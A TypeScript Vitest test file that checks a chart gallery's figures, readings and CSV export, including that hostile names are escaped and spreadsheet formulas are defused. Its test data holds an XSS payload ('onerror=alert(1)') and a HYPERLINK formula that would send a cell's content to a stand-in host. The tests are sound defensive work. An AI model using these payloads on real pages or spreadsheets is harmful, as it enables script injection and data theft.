import { describe, expect, test } from 'vitest';
import { CELLS, isSubjectCell } from '../../src/charts/cells';
import { shownTable, tableCsv } from '../../src/charts/chart-table';
import { isFormula } from '../../src/core/base/formula';
import type { FigureSpec } from '../../src/charts/figure';
import { GALLERY } from '../../src/charts/registry';
import { en } from '../../src/i18n/en';
import { text } from '../../src/i18n/text.svelte';
import { EDGES, galleryView, type GalleryCase } from '../charts/gallery-sample';
import { SPACE, stringsOf, THEME } from '../charts/sample';
import { hostileWords } from '../helpers/hostile-words';

/** What every chart of the gallery promises. Registering one adds these tests for it. */

const MARKUP = ['<a href="https://evil.invalid">x</a>', '<img src=x onerror=alert(1)>', '%{y}', '$\\alpha$', '<b>bold</b>', '&lt;i&gt;', '=1+1', '__proto__']; // prettier-ignore
const cases: readonly (readonly [string, GalleryCase])[] = [
  ['1 segments', { segments: 1 }],
  ...EDGES,
  [
    'markup in names',
    { segments: 8, name: (label) => MARKUP[label] ?? '', word: (plain) => `${MARKUP[0]}${plain}%{x}` },
  ],
];

/** What Plotly is given; the rest of a figure is for the page, which escapes by itself. */
const plotted = ({ data, layout }: FigureSpec): Pick<FigureSpec, 'data' | 'layout'> => ({ data, layout });

/** Numbers that a figure holds and that must be finite wherever they are given. */
function positionsOf({ data }: FigureSpec): number[] {
  return data.flatMap(({ x, y }) => [...Array.from(x), ...Array.from(y)]).filter((value) => value !== null);
}

const plain = (words: string): string =>
  words.replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code))).replace(/[\u2068\u2069]/g, '');

test('ids are their own, titles have words', () => {
  expect(new Set(GALLERY.map(({ id }) => id)).size).toBe(GALLERY.length);
  for (const { title } of GALLERY) expect(en[title]).not.toBe('');
});

describe.each(GALLERY.map((chart) => [chart.id, chart] as const))('%s', (_, chart) => {
  test.each(cases)('with %s: figure, table and reading', (_, given) => {
    const view = galleryView(chart, given);
    const figure = chart.draw(view, THEME, text, SPACE);
    expect(figure.data.length + (figure.layout.annotations ?? []).length).toBeGreaterThan(0);
    expect(positionsOf(figure).every(Number.isFinite)).toBe(true);
    for (const { x, y, uid } of figure.data) {
      expect(x.length).toBe(y.length);
      expect(uid).toMatch(/^[\w-]+$/); // Plotly makes a selector of it
    }
    for (const string of stringsOf(plotted(figure))) expect(string).not.toMatch(/[<>]|%\{|\$|NaN|undefined|Infinity/);

    const reading = chart.reading(view, text);
    expect(reading).not.toMatch(/NaN|undefined|Infinity/);
    expect(reading.length).toBeGreaterThan(20);

    const table = chart.table(view, text);
    expect(table.reads).toHaveLength(table.columns.length);
    for (const row of table.rows) expect(row).toHaveLength(table.columns.length);
    expect(table.rows.flat().every((cell) => typeof cell !== 'number' || Number.isFinite(cell))).toBe(true);
    expect(tableCsv(table).split('\r\n').length).toBeGreaterThanOrEqual(table.rows.length + 2);
  });

  test('what is said where one points stands in the table', () => {
    const view = galleryView(chart, { segments: 5 });
    const numbers = new Set(
      shownTable(chart.table(view, text), text)
        .rows.flat()
        .filter((cell) => /\d/.test(cell)),
    );
    const said = chart
      .draw(view, THEME, text, SPACE)
      .data.filter(({ hoverinfo }) => hoverinfo === 'text')
      .flatMap(({ text: texts = [] }) => texts.map(plain));
    // A dot of a map with variables says whose it is; its place is the map's.
    const spoken = said.filter((words) => !/^Segment \d$/.test(words));
    expect(said.length).toBeGreaterThan(0);
    for (const words of spoken)
      expect(
        [...numbers].some((number) => words.includes(number)),
        words,
      ).toBe(true);
  });

  test('fits into narrow and wide places', () => {
    for (const space of [
      { width: 300, height: 300 },
      { width: 1600, height: 400 },
    ]) {
      const { layout } = chart.draw(galleryView(chart, { segments: 30 }), THEME, text, space);
      const { l, r, t, b } = layout.margin;
      expect(space.width - l - r).toBeGreaterThan(60);
      expect(space.height - t - b).toBeGreaterThan(60);
    }
  });

  test('cells answer for their points, and all but the chosen one grey', () => {
    const view = galleryView(chart, { segments: 4 });
    const { data, cells = [] } = chart.draw(view, THEME, text, SPACE);
    const points = data.find(({ uid }) => uid === CELLS);
    expect(cells.map(({ x, y }) => [x, y])).toEqual(points ? Array.from(points.x, (x, i) => [x, points.y[i]]) : []);
    const by = cells.find(({ target }) => target.label !== null && target.where !== null)?.target;
    if (!by) return;
    const rows = new Uint8Array(view.labels.length);
    const counts = view.segments.map(({ label }) => (label === by.label ? 1 : 0));
    const chosen = chart.draw({ ...view, chosen: { rows, count: 1, counts, by } }, THEME, text, SPACE);
    expect(cells.filter(({ target }) => isSubjectCell({ selected: null, chosen: { rows, count: 1, counts, by } }, target) && target.where?.column === by.where?.column)).toHaveLength(1); // prettier-ignore
    expect(chosen.cells).toEqual(cells);
    expect(stringsOf(chosen)).not.toEqual(stringsOf({ data }));
  });

  test('greys what is not selected and keeps its place', () => {
    const [all, one] = [null, 1].map((selected) => chart.draw(galleryView(chart, { segments: 4, selected }), THEME, text, SPACE)); // prettier-ignore
    expect(stringsOf(one).filter((string) => string === 'context').length).toBeGreaterThan(
      stringsOf(all).filter((string) => string === 'context').length,
    );
    expect(one!.layout.xaxis.range).toEqual(all!.layout.xaxis.range);
    expect(one!.layout.yaxis.range).toEqual(all!.layout.yaxis.range);
  });
});

const AT_ONCE = 30;
const FORMULAS = ['=HYPERLINK("https://evil.invalid?"&A1)', '+1+1', '-1+1', '@SUM(1)', '\t=1', ' =1', '\uff1d1', '-5'];

test.each(GALLERY.map((chart) => [chart.id, chart] as const))('%s shows every name as text', (_, chart) => {
  const names = hostileWords();
  expect(names.length).toBeGreaterThan(10);
  for (let from = 0; from < names.length; from += AT_ONCE) {
    const own = names.slice(from, from + AT_ONCE);
    const given = {
      segments: own.length,
      name: (label: number) => own[label] ?? '',
      word: (plain: string) => `${own[0]} ${plain}`,
    };
    const view = galleryView(chart, given);
    const markup = stringsOf(plotted(chart.draw(view, THEME, text, SPACE))).filter((string) =>
      /[<>$]|%\{/.test(string),
    );
    expect(markup).toEqual([]);
    expect(chart.reading(view, text)).not.toBe('');
  }
});

/** RFC 4180 undone, by a way of its own. */
function recordsOf(csv: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    record.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    records.push(record);
    record = [];
  }
  return records;
}

test.each(GALLERY.map((chart) => [chart.id, chart] as const))(
  '%s is saved as CSV with every name as it is, and nothing that runs',
  (_, chart) => {
    const names = [...FORMULAS, ...hostileWords()];
    const seen = new Set<string>();
    for (let from = 0; from < names.length; from += AT_ONCE) {
      const own = names.slice(from, from + AT_ONCE);
      const given = {
        segments: own.length,
        name: (label: number) => own[label] ?? '',
        word: (plain: string) => `${own[0]} ${plain}`,
      };
      const { columns, rows } = chart.table(galleryView(chart, given), text);
      const texts = [columns, ...rows].map((row) => row.map((cell) => (typeof cell === 'string' ? cell : null)));
      const saved = recordsOf(tableCsv(chart.table(galleryView(chart, given), text)));
      expect(saved.map((record) => record.length)).toEqual(texts.map((row) => row.length));
      for (const [at, row] of texts.entries())
        for (const [column, cell] of row.entries()) {
          const written = saved[at]?.[column] ?? '';
          if (cell === null) expect(written).toMatch(/^(-?[\d.e+-]*|-?\d{4,6}-\d\d-\d\d)$/);
          else expect(written).toBe(isFormula(cell) ? `'${cell}` : cell);
          if (cell !== null) seen.add(cell);
        }
    }
    expect([...seen].join('\n')).toContain(FORMULAS[0]);
  },
);
